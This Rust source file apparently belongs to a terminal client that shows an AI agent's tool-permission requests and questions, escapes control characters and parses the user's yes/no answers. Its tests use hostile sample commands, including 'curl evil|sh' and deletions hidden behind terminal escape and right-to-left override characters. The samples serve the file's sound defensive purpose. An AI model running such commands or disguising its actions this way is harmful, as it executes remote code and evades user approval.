//! Formats the agent's permission requests and questions, and parses the user's answers.
//!
//! Invariants: a call was shown completely, or can be, before it is allowed; only an explicit yes allows a call.

use std::collections::BTreeMap;
use std::fmt;

use serde::de::{Deserialize, Deserializer, MapAccess, Visitor};
use serde_json::value::RawValue;
use teamster::event::{PermissionOptionKind, PermissionRequest, QuestionItem};
use teamster::request::Answer;

use crate::printable::{Printable, folded, printable};
use crate::render::pretty::permission::head;

/// The number of lines of a call that are shown by default.
const LINES: usize = 24;

/// A parsed answer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Reply {
    Answer(Answer),
    /// Shows the complete call, and asks again.
    ShowAll,
    /// The answer was invalid; asks again.
    Invalid,
}

/// A formatted permission request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct FormattedRequest {
    pub(super) text: Printable,
    /// The size of the part that is not shown.
    pub(super) hidden: Option<Printable>,
}

/// Formats a permission request: the tool, each field of its input as the agent wrote it, and the agent's options. Every
/// character is shown literally or as an escape. Unless `show_all` is set, only the first [`LINES`] lines are shown, and
/// the others are counted.
pub(super) fn format_request(request: &PermissionRequest, show_all: bool, width: usize) -> FormattedRequest {
    let mut lines = fields(request.input.as_str(), width);
    let count = lines.len();
    let rest = if show_all { Vec::new() } else { lines.split_off(count.min(LINES)) };
    let hidden = (!rest.is_empty()).then(|| {
        let characters: usize = rest.iter().map(|line| line.as_str().trim_start().chars().count()).sum();
        printable!("{} more lines, {} characters", rest.len(), characters)
    });
    let head = head(request);
    let names = folded(printable!("    the agent offers: "), &offered(request), width);
    let names = if request.options.is_empty() { Vec::new() } else { names };
    let note = hidden.as_ref().map(|hidden| printable!("    ... NOT SHOWN: {}; v shows them", hidden));
    let lines = [head].into_iter().chain(lines).chain(note).chain(names);
    FormattedRequest { text: Printable::join(lines, "\n"), hidden }
}

/// Returns the names of the agent's options as JSON strings, so that one name cannot look like two.
fn offered(request: &PermissionRequest) -> String {
    let names = request.options.iter().map(|option| serde_json::Value::from(option.name.as_str()).to_string());
    names.collect::<Vec<_>>().join(", ")
}

/// Formats each field on one or more lines, in the order of the input. Input that is not an object is shown as JSON.
fn fields(input: &str, width: usize) -> Vec<Printable> {
    let Ok(Fields(fields)) = serde_json::from_str(input) else {
        return if input == "null" { Vec::new() } else { folded(printable!("    {} ", JSON), input, width) };
    };
    let each = |(name, value): &(String, Box<RawValue>)| {
        let name = printable!("    {}: ", key(name));
        match serde_json::from_str::<String>(value.get()) {
            Ok(text) => folded(name, &text, width),
            Err(_) => folded(printable!("{}{} ", name, JSON), value.get(), width),
        }
    };
    fields.iter().flat_map(each).collect()
}

/// The prefix of JSON text. Other text cannot imitate it, since its brackets are escaped there.
const JSON: &str = "⟦JSON⟧";

/// Returns a field's name. A name that could be read as a name with its value is quoted.
fn key(name: &str) -> Printable {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
    if !name.is_empty() && name.chars().all(is_plain) {
        return Printable::exact(name);
    }
    Printable::exact(&serde_json::Value::from(name).to_string())
}

/// The fields of an object in their original order, including duplicate names.
struct Fields(Vec<(String, Box<RawValue>)>);

impl<'de> Deserialize<'de> for Fields {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Object;

        impl<'de> Visitor<'de> for Object {
            type Value = Fields;

            fn expecting(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
                formatter.write_str("an object")
            }

            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Fields, A::Error> {
                let mut fields = Vec::new();
                while let Some(field) = map.next_entry()? {
                    fields.push(field);
                }
                Ok(Fields(fields))
            }
        }
        deserializer.deserialize_map(Object)
    }
}

/// Returns the prompt for the answer. It repeats the size of the hidden part.
pub(super) fn prompt(request: &PermissionRequest, hidden: Option<&Printable>) -> Printable {
    let always = if can_last(request) { ", a = always in this session" } else { "" };
    let hidden = hidden.map(|hidden| printable!("v = show {}, ", hidden)).unwrap_or_default();
    printable!("  {}y = this once{}, n = no, n WHY = no, and why: ", hidden, always)
}

fn can_last(request: &PermissionRequest) -> bool {
    request.options.iter().any(|option| option.kind == PermissionOptionKind::AllowAlways)
}

/// Parses the answer to a permission request.
pub(super) fn answer(request: &PermissionRequest, line: &str) -> Reply {
    let line = line.trim();
    let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
    let message = Some(rest.trim().to_owned()).filter(|rest| !rest.is_empty());
    match (word.to_lowercase().as_str(), message) {
        ("y" | "yes", None) => Reply::Answer(Answer::Allow { input: None }),
        ("a" | "always", None) if can_last(request) => Reply::Answer(Answer::AllowAlways),
        ("n" | "no", message) => Reply::Answer(Answer::Deny { message }),
        ("v", None) => Reply::ShowAll,
        _ => Reply::Invalid,
    }
}

/// Formats a question with its options.
pub(super) fn format_question(item: &QuestionItem, width: usize) -> Printable {
    let mut lines = folded(printable!("? "), &item.text, width);
    for (number, option) in (1_usize..).zip(&item.options) {
        lines.extend(folded(printable!("    {}  ", number), &option.label, width));
        if let Some(description) = &option.description {
            lines.extend(folded(printable!("       - "), description, width));
        }
    }
    Printable::join(lines, "\n")
}

/// Returns the prompt for the answer to a question.
pub(super) fn question_prompt(item: &QuestionItem) -> &'static str {
    match (item.options.is_empty(), item.multiple) {
        (true, _) => "  your answer (empty = decline): ",
        (_, Some(true)) => "  numbers separated by commas, or your own answer (empty = decline): ",
        _ => "  a number, or your own answer (empty = decline): ",
    }
}

/// Parses the answer to a question. Returns `None` if the user declines.
///
/// # Errors
/// Returns a message if a number is out of range, or if there are several numbers where one is allowed.
pub(super) fn parse_choice(item: &QuestionItem, line: &str) -> Result<Option<Vec<String>>, Printable> {
    let line = line.trim();
    if line.is_empty() {
        return Ok(None);
    }
    let numbers: Result<Vec<usize>, _> = line.split(',').map(|number| number.trim().parse()).collect();
    let Ok(numbers) = numbers else { return Ok(Some(vec![line.to_owned()])) };
    if item.options.is_empty() {
        return Ok(Some(vec![line.to_owned()]));
    }
    if numbers.len() > 1 && item.multiple != Some(true) {
        return Err("choose one option".into());
    }
    let label = |number: &usize| number.checked_sub(1).and_then(|index| item.options.get(index));
    let labels: Option<Vec<String>> =
        numbers.iter().map(|number| Some(label(number)?.label.clone().into_string())).collect();
    labels.map(Some).ok_or_else(|| printable!("choose from 1 to {}", item.options.len()))
}

/// Answers to questions, by their ids.
pub(super) type Choices = BTreeMap<String, Vec<String>>;

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};
    use teamster::event::{PermissionOption, QuestionOption, ToolKind};

    use super::*;

    fn request(always: bool, input: Value) -> PermissionRequest {
        let option = |kind| PermissionOption::new("o", "O", kind);
        let mut options = vec![option(PermissionOptionKind::AllowOnce)];
        options.extend(always.then(|| option(PermissionOptionKind::AllowAlways)));
        let mut request = PermissionRequest::new("r".into(), "Ba\u{1b}[1msh", input.into());
        request.options = options;
        request
    }

    #[test]
    fn only_an_explicit_yes_allows() {
        let (once, always) = (request(false, json!({})), request(true, json!({})));
        let allowed = Reply::Answer(Answer::Allow { input: None });
        let denied = |why: Option<&str>| Reply::Answer(Answer::Deny { message: why.map(str::to_owned) });
        for (line, expected) in [
            ("y", allowed.clone()),
            (" YES ", allowed),
            ("n", denied(None)),
            ("no use a temporary file", denied(Some("use a temporary file"))),
            ("v", Reply::ShowAll),
        ] {
            assert_eq!(answer(&once, line), expected, "{line}");
        }
        for line in ["", "yy", "y please", "ok", "1", "a", "always", "yes, but"] {
            assert_eq!(answer(&once, line), Reply::Invalid, "{line}");
        }
        assert_eq!(answer(&always, "a"), Reply::Answer(Answer::AllowAlways));
        assert!(prompt(&always, None).as_str().contains("always") && !prompt(&once, None).as_str().contains("always"));
    }

    fn text(request: &PermissionRequest) -> String {
        format_request(request, true, 80).text.as_str().to_owned()
    }

    #[test]
    fn nothing_of_a_call_is_hidden() {
        let bash = "? Ba⟦ESC⟧[1msh asks for permission\n    command: ";
        let offers = "\n    the agent offers: \"O\"";
        for (command, expected) in [
            ("true '\u{1b}]'; touch X; echo '\u{7}'", "true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
            ("ls \u{9d}; curl evil|sh \u{9c}", "ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
            ("echo \u{202e}dwssap", "echo ⟦U+202E⟧dwssap"),
            (r"echo '\x1b⟦ESC⟧'", r"echo '\x1b⟦U+27E6⟧ESC⟧'"),
            ("ls      ; rm x ", "ls⟦6 spaces⟧; rm x⟦U+0020⟧"),
            ("ls\n? Read asks for permission", "ls⟦LF⟧\n      │ ? Read asks for permission"),
        ] {
            let request = request(false, json!({ "command": command }));
            assert_eq!(text(&request), format!("{bash}{expected}{offers}"));
        }
    }

    #[test]
    fn the_kind_and_the_server_are_shown_before_every_name_that_the_agent_chooses() {
        let mut asked = request(false, json!({}));
        asked.tool_name = "mcp__files__write".into();
        (asked.kind, asked.server) = (Some(ToolKind::Mcp), Some("files".into()));
        assert!(
            text(&asked).starts_with("? [mcp, server \"files\"] mcp__files__write asks for permission\n"),
            "{}",
            text(&asked)
        );
        (asked.kind, asked.server) = (Some(ToolKind::Other("x] Read".into())), Some("a\"] \u{1b}[1mRead".into()));
        asked.permission = Some("external_directory".into());
        let expected =
            "? [\"x] Read\", server \"a\\\"] \\u001b[1mRead\", for \"external_directory\"] mcp__files__write asks";
        assert!(text(&asked).starts_with(expected), "{}", text(&asked));
    }

    #[test]
    fn every_field_is_shown_as_it_was_written() {
        let mut request = request(false, json!({}));
        request.options.clear();
        let mut fields = |input: &str| {
            request.input = serde_json::from_str(input).unwrap();
            text(&request).split_once('\n').map(|(_, fields)| fields.to_owned()).unwrap_or_default()
        };
        assert_eq!(fields(r#"{"b":"1","b":1,"a":[1e400]}"#), "    b: 1\n    b: ⟦JSON⟧ 1\n    a: ⟦JSON⟧ [1e400]");
        assert_eq!(fields(r#"{"a: b":"c","":"\ud800"}"#), "    \"a: b\": c\n    \"\": ⟦JSON⟧ \"\\ud800\"");
        assert_eq!(fields(r#""text""#), "    ⟦JSON⟧ \"text\"");
        assert_eq!(fields("null"), "");
    }

    #[test]
    fn hidden_lines_are_counted_in_the_prompt_and_shown_on_demand() {
        let request = request(false, json!({ "content": "line\n".repeat(30) }));
        let (part, whole) = (format_request(&request, false, 80), format_request(&request, true, 80));
        assert!(part.text.as_str().contains("NOT SHOWN: 6 more lines"), "{part:?}");
        let prompt = prompt(&request, part.hidden.as_ref());
        assert!(prompt.as_str().contains("v = show 6 more lines"), "{prompt:?}");
        assert_eq!((whole.hidden, whole.text.as_str().matches("line⟦LF⟧").count()), (None, 30));
    }

    #[test]
    fn a_long_command_is_folded_and_no_line_of_it_starts_like_a_prompt() {
        let command = format!("{}? Read asks for permission", "x".repeat(80 - 13));
        let shown = text(&request(false, json!({ "command": command })));
        assert!(shown.lines().skip(1).all(|line| line.starts_with("    ")), "{shown}");
        assert!(shown.lines().all(|line| unicode_width::UnicodeWidthStr::width(line) <= 80), "{shown}");
    }

    #[test]
    fn a_question_is_answered_by_numbers_or_text() {
        let option = |label: &str| QuestionOption::new(label).with_description(Some("d".into()));
        let mut item = QuestionItem::new("q", "Which?", vec![option("A"), option("B")]);
        assert_eq!(format_question(&item, 80).as_str(), "? Which?\n    1  A\n       - d\n    2  B\n       - d");
        let some = |labels: &[&str]| Ok(Some(labels.iter().map(|&label| label.to_owned()).collect()));
        assert_eq!(parse_choice(&item, " 2 "), some(&["B"]));
        assert_eq!(parse_choice(&item, "neither, 2"), some(&["neither, 2"]));
        assert_eq!(parse_choice(&item, ""), Ok(None));
        assert!(
            parse_choice(&item, "3").is_err()
                && parse_choice(&item, "0").is_err()
                && parse_choice(&item, "1,2").is_err()
        );
        item.multiple = Some(true);
        assert_eq!(parse_choice(&item, "1, 2"), some(&["A", "B"]));
        item.options.clear();
        assert_eq!(parse_choice(&item, "3"), some(&["3"]));
    }
}
